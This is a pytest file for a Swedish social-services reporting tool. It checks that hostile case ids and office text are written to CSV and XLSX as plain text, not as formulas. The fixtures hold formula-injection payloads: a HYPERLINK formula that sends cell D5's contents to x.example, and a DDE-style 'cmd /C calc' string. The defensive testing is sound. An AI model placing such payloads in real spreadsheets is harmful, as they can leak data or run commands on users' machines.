"""No cell of a spreadsheet casewatch writes is a formula, whatever a source put in a case id or
the office in its text (CSV/formula injection): the IVO work list (CSV, XLSX), the board's IVO
list (CSV) and the board's workbook."""
from __future__ import annotations

import csv
import io
from datetime import datetime

from openpyxl import load_workbook
from typer.testing import CliRunner

from services.commands import app
from services.simulator import SimulationSpec, simulate
from services.snapshot.build import build_content
from services.snapshot.config import load_config
from services.snapshot.figures import Month, load_replay
from services.snapshot.ivo import reportable, to_csv
from services.snapshot.publish import publish
from services.snapshot.render_xlsx import render_xlsx
from services.spreadsheet_text import csv_cell
from streams.core.ivo import Quarter
from streams.core.timeutil import STOCKHOLM
from tests.events import ev, line

LINK = '=HYPERLINK("https://x.example/?"&D5;"Öppna")'
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
DECISIONS = [
    ev("decision.made", "2024-01-10T10:00:00+01:00", case=LINK, decision_id=AT, intervention="familjebehandling"),
    ev("decision.made", "2024-01-12T10:00:00+01:00", case="+1+1", decision_id="-2-2", intervention="kontaktperson"),
    ev("decision.made", "2024-01-14T10:00:00+01:00", case="plain-case", decision_id="d3", intervention="annan"),
]


def no_formulas(path) -> list:
    """Every cell value of every sheet, asserting that none is stored as a formula."""
    values = []
    for ws in load_workbook(path).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                values.append(cell.value)
    return values


def test_the_ivo_work_list_shows_hostile_ids_as_text(tmp_path):
    events = tmp_path / "e.jsonl"
    events.write_bytes(b"".join(line(e) + b"\n" for e in DECISIONS))
    result = CliRunner().invoke(app, ["ivo-report", "--quarter", "2024-Q2", "--events", str(events),
                                      "--out", str(tmp_path / "ivo"), "--no-pdf"])
    assert result.exit_code == 0, result.output
    rev = tmp_path / "ivo" / "2024-Q2" / "rev-1"
    values = no_formulas(rev / "arbetslista.xlsx")
    assert LINK in values and AT in values and "+1+1" in values  # exactly what the source sent, as text
    rows = list(csv.DictReader(io.StringIO((rev / "arbetslista.csv").read_text(encoding="utf-8-sig")), delimiter=";"))
    ids = {(r["Ärende-id"], r["Beslut-id"]) for r in rows}
    assert ids == {("'" + LINK, "'" + AT), ("'+1+1", "'-2-2"), ("plain-case", "d3")}
    assert all(not v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())


def test_the_boards_ivo_list_csv_shows_hostile_ids_as_text():
    from streams.core.replay import Replay

    replay = Replay()
    replay.add_lines(line(e) for e in DECISIONS)
    rows = list(csv.DictReader(io.StringIO(to_csv(reportable(replay, Quarter(2024, 2)))), delimiter=";"))
    assert {(r["arende_id"], r["beslut_id"]) for r in rows} == {
        ("'" + LINK, "'" + AT), ("'+1+1", "'-2-2"), ("plain-case", "d3")}
    assert {r["dagar_i_vantan"] for r in rows} == {"172", "170", "168"}  # numbers stay numbers


def test_csv_cell_leaves_numbers_and_plain_text_alone():
    assert [csv_cell(v) for v in (-3, 2.5, "–", "bou-1", "2024-01-10", "\tx", "\r=x")] == [
        -3, 2.5, "–", "bou-1", "2024-01-10", "'\tx", "'\r=x"]


def test_the_boards_workbook_keeps_the_offices_text_as_text(tmp_path):
    events = tmp_path / "events.jsonl"
    spec = SimulationSpec(months=3, municipalities=1, seed=7, end=datetime(2024, 4, 1, tzinfo=STOCKHOLM))
    events.write_bytes(b"".join(simulate(spec)))
    texts = tmp_path / "narrative"
    texts.mkdir()
    (texts / "2024-03.md").write_text(f"## Viktiga händelser\n- Många nya anmälningar.\n\n## Åtgärder\n- Fler familjehem.\n\n"
                                      f"## Risker\n{LINK}\n", encoding="utf-8")
    content = build_content(load_replay(events), Month(2024, 3), load_config(), "0138", narrative_dir=texts)
    report = publish(content, {"revision": 1})
    assert report["risker"] == LINK
    render_xlsx(report, tmp_path / "r.xlsx")
    values = no_formulas(tmp_path / "r.xlsx")
    assert LINK in values
